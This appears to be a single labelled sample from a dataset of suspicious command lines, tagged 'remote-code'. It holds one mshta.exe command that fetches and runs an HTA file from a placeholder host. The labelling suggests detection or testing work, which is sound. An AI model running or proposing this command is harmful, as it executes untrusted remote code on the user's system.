# description: Runs a remote HTA application with mshta.
# family: remote-code
mshta.exe https://example.com/update.hta
